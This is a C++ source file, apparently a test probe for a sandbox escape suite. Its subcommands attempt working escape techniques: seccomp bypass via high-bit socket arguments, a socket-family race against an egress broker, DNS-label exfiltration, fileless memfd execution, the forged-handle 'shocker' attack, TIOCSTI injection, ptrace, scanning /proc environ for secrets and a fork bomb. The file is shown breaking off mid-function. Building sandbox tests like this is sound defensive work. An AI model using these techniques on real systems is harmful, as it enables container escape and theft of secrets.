// gander_probe: one escape attempt per subcommand, for the escape suite.
//
// Exit status: 0 = the attempt SUCCEEDED (an escape, when run inside a sandbox), 1 = it failed,
// 2 = usage error. Every attempt prints one line per try to stderr ("probe: <what>: ok" or
// "probe: <what>: <errno text>"); nothing is ever written to stdout, so a test can also check
// that gander itself keeps stdout clean. No dependencies beyond libc; raw syscalls where glibc
// has no wrapper, so the probe does not depend on the headers' vintage.
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/rtnetlink.h>
#include <netinet/in.h>
#include <pty.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <string>
#include <thread>
#include <vector>

namespace {

constexpr int kSucceeded = 0;
constexpr int kFailed = 1;
constexpr int kUsage = 2;

// Syscall numbers (x86_64) that Debian 12's headers may lack.
#ifndef SYS_clone3
#define SYS_clone3 435
#endif
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_fsopen
#define SYS_fsopen 430
#endif
#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#endif
constexpr long kX32SyscallBit = 0x40000000L;
constexpr unsigned kOpenTreeClone = 1;  // OPEN_TREE_CLONE
constexpr int kI386Getpid = 20;

// The clone3 argument block (CLONE_ARGS_SIZE_VER0 part is enough for flags + exit_signal).
struct CloneArgs {
  uint64_t flags;
  uint64_t pidfd;
  uint64_t child_tid;
  uint64_t parent_tid;
  uint64_t exit_signal;
  uint64_t stack;
  uint64_t stack_size;
  uint64_t tls;
};

void Report(const char* what, bool ok, int err) {
  if (ok) {
    fprintf(stderr, "probe: %s: ok\n", what);
  } else {
    fprintf(stderr, "probe: %s: %s (errno %d)\n", what, strerror(err), err);
  }
}

// Reports the outcome of a libc call that returns -1 on failure; returns whether it succeeded.
bool Check(const char* what, long rc) {
  int err = errno;
  Report(what, rc >= 0, err);
  return rc >= 0;
}

std::string Fmt(const char* fmt, ...) __attribute__((format(printf, 1, 2)));
std::string Fmt(const char* fmt, ...) {
  char buf[512];
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(buf, sizeof buf, fmt, ap);
  va_end(ap);
  return buf;
}

// Runs fn in a forked child and returns true when the child exited 0. Attempts that change the
// calling process irreversibly (namespaces, ptrace relations, chroot) run this way.
template <typename Fn>
bool InChild(const char* what, Fn fn) {
  pid_t pid = fork();
  if (pid < 0) {
    return Check(what, -1);
  }
  if (pid == 0) {
    _exit(fn() ? 0 : 1);
  }
  int status = 0;
  while (waitpid(pid, &status, 0) < 0 && errno == EINTR) {
  }
  if (WIFSIGNALED(status)) {
    fprintf(stderr, "probe: %s: child killed by signal %d\n", what, WTERMSIG(status));
    return false;
  }
  return WIFEXITED(status) && WEXITSTATUS(status) == 0;
}

int Result(bool ok) { return ok ? kSucceeded : kFailed; }

// --- files -------------------------------------------------------------------------------

int DoRead(const char* path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (!Check(Fmt("open %s for reading", path).c_str(), fd)) return kFailed;
  char buf[4096];
  ssize_t n = read(fd, buf, sizeof buf);
  close(fd);
  if (!Check(Fmt("read %s", path).c_str(), n)) return kFailed;
  fprintf(stderr, "probe: read %zd bytes from %s\n", n, path);
  return kSucceeded;
}

int DoList(const char* path) {
  DIR* dir = opendir(path);
  if (!Check(Fmt("opendir %s", path).c_str(), dir ? 0 : -1)) return kFailed;
  int entries = 0;
  while (readdir(dir) != nullptr) ++entries;
  closedir(dir);
  fprintf(stderr, "probe: %s has %d entries\n", path, entries);
  return kSucceeded;
}

int DoWrite(const char* path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (!Check(Fmt("open %s for writing", path).c_str(), fd)) return kFailed;
  static const char kLine[] = "written by gander_probe\n";
  ssize_t n = write(fd, kLine, sizeof kLine - 1);
  int close_rc = close(fd);
  if (!Check(Fmt("write %s", path).c_str(), n)) return kFailed;
  return Result(Check(Fmt("close %s", path).c_str(), close_rc));
}

int DoExec(char** argv) {
  pid_t pid = fork();
  if (pid < 0) return Result(Check("fork", -1));
  if (pid == 0) {
    execv(argv[0], argv);
    fprintf(stderr, "probe: execv %s: %s\n", argv[0], strerror(errno));
    _exit(127);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  bool ok = WIFEXITED(status) && WEXITSTATUS(status) == 0;
  fprintf(stderr, "probe: exec %s: %s (wait status 0x%x)\n", argv[0], ok ? "ok" : "failed", status);
  return Result(ok);
}

// Reports every open fd above 2: inherited descriptors are a way out of any mount view. Probes
// with fcntl rather than listing /proc/self/fd, which a sandbox may hide.
int DoFds() {
  bool found = false;
  for (int fd = 3; fd < 65536; ++fd) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    char target[512] = {};
    ssize_t n = readlink(Fmt("/proc/self/fd/%d", fd).c_str(), target, sizeof target - 1);
    if (n < 0) snprintf(target, sizeof target, "? (readlink: %s)", strerror(errno));
    fprintf(stderr, "probe: inherited fd %d -> %s\n", fd, target);
    found = true;
  }
  if (!found) fprintf(stderr, "probe: no fd above 2 is open\n");
  return Result(found);
}

// --- environment -------------------------------------------------------------------------

// Is NAME in our environment, or NAME= / VALUE in any /proc/PID/environ we can read?
int DoEnv(const char* name, const char* value) {
  bool found = false;
  if (const char* v = getenv(name)) {
    fprintf(stderr, "probe: %s is in our environment (%zu chars)\n", name, strlen(v));
    found = true;
  } else {
    fprintf(stderr, "probe: %s is not in our environment\n", name);
  }
  std::string prefix = std::string(name) + "=";
  DIR* proc = opendir("/proc");
  if (!proc) {
    Check("opendir /proc", -1);
    return Result(found);
  }
  int readable = 0;
  while (dirent* e = readdir(proc)) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    int fd = open(Fmt("/proc/%s/environ", e->d_name).c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    std::string env;
    char buf[8192];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) env.append(buf, static_cast<size_t>(n));
    close(fd);
    ++readable;
    for (size_t pos = 0; pos < env.size();) {
      size_t end = env.find('\0', pos);
      if (end == std::string::npos) end = env.size();
      std::string entry = env.substr(pos, end - pos);
      bool name_hit = entry.compare(0, prefix.size(), prefix) == 0;
      bool value_hit = value && *value && entry.find(value) != std::string::npos;
      if (name_hit || value_hit) {
        fprintf(stderr, "probe: found %s in /proc/%s/environ\n", name_hit ? name : "the value",
                e->d_name);
        found = true;
      }
      pos = end + 1;
    }
  }
  closedir(proc);
  fprintf(stderr, "probe: scanned %d readable /proc/*/environ\n", readable);
  return Result(found);
}

// --- network -----------------------------------------------------------------------------

int DoTcp(const char* host, const char* port) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_INET", fd)) return kFailed;
  timeval tv{3, 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(atoi(port)));
  if (inet_pton(AF_INET, host, &addr.sin_addr) != 1) {
    fprintf(stderr, "probe: bad IPv4 address %s\n", host);
    return kUsage;
  }
  int rc = connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr);
  bool ok = Check(Fmt("connect tcp %s:%s", host, port).c_str(), rc);
  close(fd);
  return Result(ok);
}

int DoUdp(const char* host, const char* port) {
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_INET dgram", fd)) return kFailed;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(atoi(port)));
  if (inet_pton(AF_INET, host, &addr.sin_addr) != 1) return kUsage;
  static const char kMsg[] = "gander-probe-udp";
  ssize_t n = sendto(fd, kMsg, sizeof kMsg - 1, 0, reinterpret_cast<sockaddr*>(&addr), sizeof addr);
  close(fd);
  return Result(Check(Fmt("sendto udp %s:%s", host, port).c_str(), n));
}

// A packet socket: raw frames on the host's devices.
int DoPacket() {
  int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(0x0003 /* ETH_P_ALL */));
  bool ok = Check("socket AF_PACKET", fd);
  if (fd >= 0) close(fd);
  return Result(ok);
}

// A vsock socket (to the hypervisor, past the network namespace) whose family has bit 32 set
// in the 64-bit register: the kernel reads an int and sees AF_VSOCK, so a filter comparing all
// 64 bits would let it through. glibc's syscall() passes the register unchanged.
int DoVsockHighBits() {
  const uint64_t family = AF_VSOCK | (uint64_t{1} << 32);
  long fd = syscall(SYS_socket, family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  bool ok = Check("socket AF_VSOCK | 1 << 32", fd);
  if (fd >= 0) close(static_cast<int>(fd));
  return Result(ok);
}

// socket(AF_UNIX | 1 << 32, ...) by raw syscall: the kernel reads the family as an int, so a
// filter that compares all 64 bits lets it through. Connects it to PATH (a host socket).
int DoUnixHighBits(const char* path) {
  const uint64_t family = AF_UNIX | (uint64_t{1} << 32);
  long fd = syscall(SYS_socket, family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_UNIX | 1 << 32", fd)) return kFailed;
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (strlen(path) >= sizeof addr.sun_path) return kUsage;
  strcpy(addr.sun_path, path);
  int rc = connect(static_cast<int>(fd), reinterpret_cast<const sockaddr*>(&addr), sizeof addr);
  bool ok = Check(Fmt("connect unix %s", path).c_str(), rc);
  close(static_cast<int>(fd));
  return Result(ok);
}

// socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP | 1 << 32) by raw syscall: an MPTCP socket, which
// Landlock's TCP rules do not cover. Making it is the escape (without namespaces).
int DoMptcpHighBits() {
  const uint64_t protocol = 262 | (uint64_t{1} << 32);
  long fd = syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, protocol);
  bool ok = Check("socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP | 1 << 32)", fd);
  if (fd >= 0) close(static_cast<int>(fd));
  return Result(ok);
}

// The family-flip race against the egress broker: one thread flips the sockaddr's family
// between AF_UNIX and AF_INET while this one connects with it to IP:PORT (a host listener),
// at most TRIES times. A broker that continues a connect whose copy was not inet lets the
// kernel read AF_INET. The socket is the one the sandbox lets it make that Landlock covers
// least: MPTCP (high bits, then plain), else TCP. Succeeds when a connect succeeds.
int DoFamilyRace(const char* ip, const char* port, const char* tries_arg) {
  long fd = -1;
  const char* kind = "";
  uint64_t protocol = 0;
  for (auto [p, name] :
       {std::pair<uint64_t, const char*>{262 | (uint64_t{1} << 32), "MPTCP | 1 << 32"},
        {262, "MPTCP"},
        {0, "TCP"}}) {
    fd = syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, p);
    kind = name;
    protocol = p;
    if (fd >= 0) break;
    fprintf(stderr, "probe: socket %s: %s\n", name, strerror(errno));
  }
  if (!Check(Fmt("socket %s", kind).c_str(), fd)) return kFailed;
  alignas(sockaddr_in) static unsigned char buf[sizeof(sockaddr_in)];
  sockaddr_in in{};
  in.sin_family = AF_INET;
  in.sin_port = htons(static_cast<uint16_t>(atoi(port)));
  if (inet_pton(AF_INET, ip, &in.sin_addr) != 1) return kUsage;
  memcpy(buf, &in, sizeof in);
  std::atomic<bool> stop{false};
  std::thread flipper([&] {
    auto* family = reinterpret_cast<volatile sa_family_t*>(buf);
    // Each family held about as long as the other, so the unsandboxed control (one read of
    // the address per connect) sees AF_INET on about half its tries.
    auto hold = [] {
      for (int i = 0; i < 256; ++i) asm volatile("" ::: "memory");
    };
    while (!stop.load(std::memory_order_relaxed)) {
      *family = AF_UNIX;
      hold();
      *family = AF_INET;
      hold();
    }
  });
  long tries = atol(tries_arg);
  long connected = 0, attempts = 0;
  int last = 0;
  // A fresh socket per try: a failed MPTCP connect can leave its socket refusing the next.
  for (; attempts < tries && connected == 0; ++attempts) {
    if (attempts > 0) {
      close(static_cast<int>(fd));
      fd = syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, protocol);
      if (fd < 0) break;
    }
    if (connect(static_cast<int>(fd), reinterpret_cast<const sockaddr*>(buf), sizeof in) == 0) {
      ++connected;
    } else {
      last = errno;
    }
  }
  stop = true;
  flipper.join();
  if (fd >= 0) close(static_cast<int>(fd));
  fprintf(stderr, "probe: family race (%s socket): %ld tries, %ld connected, last errno %s\n", kind,
          attempts, connected, last ? strerror(last) : "none");
  return Result(connected > 0);
}

// memfd_create + execveat(fd, "", ..., AT_EMPTY_PATH): a copy of this probe, run from memory
// (as `gander_probe exit0`). Succeeds when the copy ran and exited 0.
int DoMemfdExec() {
  int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  if (!Check("open /proc/self/exe", src)) return kFailed;
  long fd = syscall(SYS_memfd_create, "payload", 0u);
  if (!Check("memfd_create(0)", fd)) {
    fd = syscall(SYS_memfd_create, "payload", 0x0010u /* MFD_EXEC */);
    if (!Check("memfd_create(MFD_EXEC)", fd)) return kFailed;
  }
  char chunk[65536];
  ssize_t n;
  while ((n = read(src, chunk, sizeof chunk)) > 0) {
    if (write(static_cast<int>(fd), chunk, static_cast<size_t>(n)) != n) return kFailed;
  }
  close(src);
  pid_t pid = fork();
  if (pid == 0) {
    char name[] = "gander_probe";
    char verb[] = "exit0";
    char* argv[] = {name, verb, nullptr};
    syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
    fprintf(stderr, "probe: execveat(memfd, AT_EMPTY_PATH): %s\n", strerror(errno));
    _exit(kFailed);
  }
  int status = 0;
  if (pid < 0 || waitpid(pid, &status, 0) != pid) return kFailed;
  bool ran = WIFEXITED(status) && WEXITSTATUS(status) == kSucceeded;
  fprintf(stderr, "probe: memfd exec: %s\n", ran ? "ok (the copy ran)" : "did not run");
  return Result(ran);
}

// listen() on an unbound TCP socket: the kernel autobinds it on 0.0.0.0 (all interfaces).
// Succeeds when it listens; prints the port.
int DoListenAutobind() {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_INET", fd)) return kFailed;
  bool ok = Check("listen (autobind on 0.0.0.0)", listen(fd, 1));
  sockaddr_in a{};
  socklen_t len = sizeof a;
  if (ok && getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len) == 0) {
    fprintf(stderr, "probe: listening on port %d\n", ntohs(a.sin_port));
  }
  close(fd);
  return Result(ok);
}

// bind() to 0.0.0.0 (a non-loopback address), then listen. Succeeds when it listens.
int DoBindAny() {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_INET", fd)) return kFailed;
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_ANY);
  bool ok = Check("bind 0.0.0.0:0", bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a)) &&
            Check("listen", listen(fd, 1));
  close(fd);
  return Result(ok);
}

// A netlink route dump: succeeds when it shows a network interface other than lo (the host's).
int DoNetlink() {
  int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  if (!Check("socket AF_NETLINK", fd)) return kFailed;
  struct {
    nlmsghdr h;
    ifinfomsg i;
  } req{};
  req.h.nlmsg_len = sizeof(req);
  req.h.nlmsg_type = RTM_GETLINK;
  req.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
  req.i.ifi_family = AF_UNSPEC;
  if (!Check("send RTM_GETLINK", send(fd, &req, sizeof(req), 0))) return kFailed;
  int others = 0;
  bool done = false;
  char buf[32768];
  while (!done) {
    ssize_t n = recv(fd, buf, sizeof(buf), 0);
    if (!Check("recv netlink", n) || n == 0) break;
    for (nlmsghdr* h = reinterpret_cast<nlmsghdr*>(buf); NLMSG_OK(h, static_cast<size_t>(n));
         h = NLMSG_NEXT(h, n)) {
      if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
        done = true;
        break;
      }
      auto* info = static_cast<ifinfomsg*>(NLMSG_DATA(h));
      if (!(info->ifi_flags & 0x8 /* IFF_LOOPBACK */)) ++others;
    }
  }
  close(fd);
  fprintf(stderr, "probe: %d non-loopback interfaces visible\n", others);
  return Result(others > 0);
}

// A DNS query (UDP, to the resolv.conf nameserver, or `server`) for a made-up name carrying
// data in its labels: succeeds when any answer but REFUSED comes back (the query went out).
int DoDnsExfil(const char* server) {
  char ns[64] = {};
  if (server) {
    snprintf(ns, sizeof(ns), "%s", server);
  } else if (FILE* f = fopen("/etc/resolv.conf", "r")) {
    char line[256];
    while (fgets(line, sizeof(line), f)) {
      if (sscanf(line, "nameserver %63s", ns) == 1) break;
    }
    fclose(f);
  }
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_INET dgram", fd)) return kFailed;
  timeval tv{2, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(53);
  if (inet_pton(AF_INET, ns, &addr.sin_addr) != 1) return kUsage;
  // id 0x4747, RD; one question: 6c6f6f742d6b6579.secret.exfil.invalid A IN
  static const unsigned char kQuery[] = {0x47, 0x47, 0x01, 0x00, 0,   1,   0,   0,   0,   0,   0,
                                         0,    16,   '6',  'c',  '6', 'f', '6', 'f', '7', '4', '2',
                                         'd',  '6',  'b',  '6',  '5', '7', '9', 6,   's', 'e', 'c',
                                         'r',  'e',  't',  5,    'e', 'x', 'f', 'i', 'l', 7,   'i',
                                         'n',  'v',  'a',  'l',  'i', 'd', 0,   0,   1,   0,   1};
  if (!Check("sendto dns", sendto(fd, kQuery, sizeof kQuery, 0, reinterpret_cast<sockaddr*>(&addr),
                                  sizeof addr))) {
    close(fd);
    return kFailed;
  }
  unsigned char reply[512];
  ssize_t n = recv(fd, reply, sizeof reply, 0);
  close(fd);
  if (!Check("recv dns", n) || n < 4) return kFailed;
  int rcode = reply[3] & 0xf;
  fprintf(stderr, "probe: dns rcode %d\n", rcode);
  return Result(rcode != 5);
}

int ConnectUnix(const char* what, const sockaddr_un& addr, socklen_t len) {
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_UNIX", fd)) return kFailed;
  int rc = connect(fd, reinterpret_cast<const sockaddr*>(&addr), len);
  bool ok = Check(what, rc);
  close(fd);
  return Result(ok);
}

int DoUnix(const char* path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (strlen(path) >= sizeof addr.sun_path) return kUsage;
  strcpy(addr.sun_path, path);
  return ConnectUnix(Fmt("connect unix %s", path).c_str(), addr, sizeof addr);
}

int DoAbstract(const char* name) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  size_t len = strlen(name);
  if (len + 1 >= sizeof addr.sun_path) return kUsage;
  memcpy(addr.sun_path + 1, name, len);
  return ConnectUnix(Fmt("connect abstract @%s", name).c_str(), addr,
                     static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + len));
}

// --- processes ---------------------------------------------------------------------------

int DoKill(const char* pid, const char* sig) {
  int signo = sig ? atoi(sig) : 0;
  return Result(Check(Fmt("kill(%s, %d)", pid, signo).c_str(), kill(atoi(pid), signo)));
}

int DoUserns() {
  bool any = false;
  any |= InChild("unshare(CLONE_NEWUSER)",
                 [] { return Check("unshare(CLONE_NEWUSER)", unshare(CLONE_NEWUSER)); });
  {
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, nullptr);
    if (pid == 0) _exit(0);
    int status = 0;
    if (pid > 0) waitpid(static_cast<pid_t>(pid), &status, 0);
    any |= Check("clone(CLONE_NEWUSER)", pid);
  }
  {
    CloneArgs args{};
    args.flags = CLONE_NEWUSER;
    args.exit_signal = SIGCHLD;
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) _exit(0);
    int status = 0;
    if (pid > 0) waitpid(static_cast<pid_t>(pid), &status, 0);
    any |= Check("clone3(CLONE_NEWUSER)", pid);
  }
  return Result(any);
}

// Joins the namespaces named by the given /proc/PID/ns/* paths, in order.
int DoSetns(int argc, char** argv) {
  bool all = argc > 0;
  for (int i = 0; i < argc; ++i) {
    int fd = open(argv[i], O_RDONLY | O_CLOEXEC);
    if (!Check(Fmt("open %s", argv[i]).c_str(), fd)) return kFailed;
    all &= Check(Fmt("setns %s", argv[i]).c_str(), setns(fd, 0));
    close(fd);
    if (!all) break;
  }
  return Result(all);
}

int DoPtrace() {
  bool any = false;
  pid_t parent = getppid();
  // PTRACE_SEIZE does not stop the parent; the tracer's exit detaches it again.
  any |= InChild("ptrace(PTRACE_SEIZE, parent)", [parent] {
    return Check(Fmt("ptrace(PTRACE_SEIZE, %d) (our parent)", parent).c_str(),
                 ptrace(PTRACE_SEIZE, parent, nullptr, nullptr));
  });
  pid_t self = getpid();
  any |= InChild("ptrace(PTRACE_ATTACH, probe)", [self] {
    bool ok = Check(Fmt("ptrace(PTRACE_ATTACH, %d) (the probe, from its child)", self).c_str(),
                    ptrace(PTRACE_ATTACH, self, nullptr, nullptr));
    if (ok) {
      int status;
      waitpid(self, &status, __WALL);
      ptrace(PTRACE_DETACH, self, nullptr, nullptr);
    }
    return ok;
  });
  any |= InChild("ptrace(PTRACE_TRACEME)", [] {
    return Check("ptrace(PTRACE_TRACEME)", ptrace(PTRACE_TRACEME, 0, nullptr, nullptr));
  });
  return Result(any);
}

int DoProcessVm() {
  static volatile char secret[16] = "child-secret";
  pid_t pid = fork();
  if (pid < 0) return Result(Check("fork", -1));
  if (pid == 0) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (;;) pause();
  }
  char buf[16] = {};
  iovec local{buf, sizeof buf};
  iovec remote{const_cast<char*>(secret), sizeof secret};
  ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
  bool ok = Check(Fmt("process_vm_readv(%d)", pid).c_str(), n);
  ssize_t w = process_vm_writev(pid, &local, 1, &remote, 1, 0);
  ok |= Check(Fmt("process_vm_writev(%d)", pid).c_str(), w);
  kill(pid, SIGKILL);
  waitpid(pid, nullptr, 0);
  return Result(ok);
}

// Tries to keep N children alive at once; succeeds when all N exist.
int DoForkbomb(const char* count) {
  long want = atol(count);
  std::vector<pid_t> kids;
  kids.reserve(static_cast<size_t>(want));
  int err = 0;
  while (static_cast<long>(kids.size()) < want) {
    pid_t pid = fork();
    if (pid < 0) {
      err = errno;
      break;
    }
    if (pid == 0) {
      prctl(PR_SET_PDEATHSIG, SIGKILL);
      for (;;) pause();
    }
    kids.push_back(pid);
  }
  long reached = static_cast<long>(kids.size());
  for (pid_t pid : kids) kill(pid, SIGKILL);
  for (pid_t pid : kids) waitpid(pid, nullptr, 0);
  if (reached < want) {
    fprintf(stderr, "probe: forkbomb stopped at %ld of %ld children: %s\n", reached, want,
            strerror(err));
    return kFailed;
  }
  fprintf(stderr, "probe: forkbomb reached %ld children\n", reached);
  return kSucceeded;
}

// --- syscalls a sandbox denies -------------------------------------------------------------

int DoMount(const char* dir) {
  bool any = false;
  if (Check(Fmt("mount tmpfs on %s", dir).c_str(), mount("none", dir, "tmpfs", 0, "size=1m"))) {
    any = true;
    Check(Fmt("umount2 %s", dir).c_str(), umount2(dir, MNT_DETACH));
  }
  long fs = syscall(SYS_fsopen, "tmpfs", 0);
  if (Check("fsopen(tmpfs)", fs)) {
    any = true;
    close(static_cast<int>(fs));
  }
  long tree = syscall(SYS_open_tree, AT_FDCWD, "/", kOpenTreeClone);
  if (Check("open_tree(/, OPEN_TREE_CLONE)", tree)) {
    any = true;
    close(static_cast<int>(tree));
  }
  return Result(any);
}

int DoUmount(const char* dir) {
  return Result(Check(Fmt("umount2 %s", dir).c_str(), umount2(dir, MNT_DETACH)));
}

int DoChroot(const char* dir) {
  return Result(
      InChild("chroot", [dir] { return Check(Fmt("chroot %s", dir).c_str(), chroot(dir)); }));
}

int DoBpf() {
  bool any = false;
  union bpf_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.map_type = BPF_MAP_TYPE_ARRAY;
  attr.key_size = 4;
  attr.value_size = 4;
  attr.max_entries = 1;
  long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
  if (Check("bpf(BPF_MAP_CREATE)", fd)) {
    any = true;
    close(static_cast<int>(fd));
  }
  struct bpf_insn prog[2] = {};
  prog[0].code = BPF_ALU64 | BPF_MOV | BPF_K;  // r0 = 0
  prog[0].dst_reg = BPF_REG_0;
  prog[1].code = BPF_JMP | BPF_EXIT;
  static const char kLicense[] = "GPL";
  memset(&attr, 0, sizeof attr);
  attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
  attr.insn_cnt = 2;
  attr.insns = reinterpret_cast<uint64_t>(prog);
  attr.license = reinterpret_cast<uint64_t>(kLicense);
  fd = syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr);
  if (Check("bpf(BPF_PROG_LOAD socket filter)", fd)) {
    any = true;
    close(static_cast<int>(fd));
  }
  return Result(any);
}

int DoIoUring() {
  io_uring_params params{};
  long fd = syscall(SYS_io_uring_setup, 4, &params);
  bool ok = Check("io_uring_setup", fd);
  if (ok) close(static_cast<int>(fd));
  return Result(ok);
}

int DoKeyctl() {
  bool any = false;
  static const char kPayload[] = "x";
  long key = syscall(SYS_add_key, "user", "gander-probe", kPayload, 1, KEY_SPEC_PROCESS_KEYRING);
  any |= Check("add_key(user, process keyring)", key);
  long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1);
  any |= Check("keyctl(KEYCTL_GET_KEYRING_ID, user keyring)", id);
  return Result(any);
}

int DoPerf() {
  perf_event_attr attr{};
  attr.type = PERF_TYPE_SOFTWARE;
  attr.size = sizeof attr;
  attr.config = PERF_COUNT_SW_TASK_CLOCK;
  attr.disabled = 1;
  attr.exclude_kernel = 1;
  attr.exclude_hv = 1;
  long fd = syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
  bool ok = Check("perf_event_open(self, task clock)", fd);
  if (ok) close(static_cast<int>(fd));
  return Result(ok);
}

// name_to_handle_at + open_by_handle_at on FILE; when the first is refused, a forged handle
// for the file system's root inode (the "shocker" attack).
int DoOpenByHandle(const char* path) {
  int mount_fd = open(path, O_RDONLY | O_CLOEXEC);
  if (mount_fd < 0) mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (!Check("open a mount fd", mount_fd)) return kFailed;
  union {
    file_handle fh;
    char storage[sizeof(file_handle) + MAX_HANDLE_SZ];
  } h{};
  h.fh.handle_bytes = MAX_HANDLE_SZ;
  int mount_id = 0;
  if (!Check(Fmt("name_to_handle_at %s", path).c_str(),
             name_to_handle_at(AT_FDCWD, path, &h.fh, &mount_id, 0))) {
    h.fh.handle_bytes = 8;  // FILEID_INO32_GEN: {inode 2 (root), generation 0}
    h.fh.handle_type = 1;
    uint32_t ino_gen[2] = {2, 0};
    memcpy(h.fh.f_handle, ino_gen, sizeof ino_gen);
  }
  int fd = open_by_handle_at(mount_fd, &h.fh, O_RDONLY);
  bool ok = Check("open_by_handle_at", fd);
  if (ok) close(fd);
  close(mount_fd);
  return Result(ok);
}

// Pushes a character into a terminal's input queue: on inherited fds 0-2 when they are ttys,
// on /dev/tty, and on a fresh pty made our controlling terminal.
int DoTiocsti() {
  bool any = false;
  char c = '#';
  for (int fd = 0; fd <= 2; ++fd) {
    if (isatty(fd)) {
      any |= Check(Fmt("ioctl(%d, TIOCSTI) (inherited tty)", fd).c_str(), ioctl(fd, TIOCSTI, &c));
    } else {
      fprintf(stderr, "probe: fd %d is not a tty\n", fd);
    }
  }
  int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (Check("open /dev/tty", tty)) {
    any |= Check("ioctl(/dev/tty, TIOCSTI)", ioctl(tty, TIOCSTI, &c));
    close(tty);
  }
  any |= InChild("TIOCSTI on own pty", [&c] {
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    if (!Check("posix_openpt", master)) return false;
    if (grantpt(master) != 0 || unlockpt(master) != 0) return Check("grantpt/unlockpt", -1);
    const char* name = ptsname(master);
    if (!name) return Check("ptsname", -1);
    if (!Check("setsid", setsid())) return false;
    int slave = open(name, O_RDWR);  // becomes our controlling terminal
    if (!Check(Fmt("open %s", name).c_str(), slave)) return false;
    return Check(Fmt("ioctl(%s, TIOCSTI)", name).c_str(), ioctl(slave, TIOCSTI, &c));
  });
  return Result(any);
}

// A syscall through the x32 ABI (the x32 bit on a 64-bit syscall number). Success means the
// kernel returned to us at all (even with ENOSYS); a sandbox should kill us with SIGSYS.
int DoX32() {
  long rc = syscall(kX32SyscallBit | SYS_getpid);
  fprintf(stderr, "probe: x32 getpid returned %ld (errno %d: %s)\n", rc, rc < 0 ? errno : 0,
          rc < 0 ? strerror(errno) : "none");
  return kSucceeded;
}

// A syscall through the i386 ABI (int $0x80), same success rule as DoX32.
int DoInt80() {
  long rc;
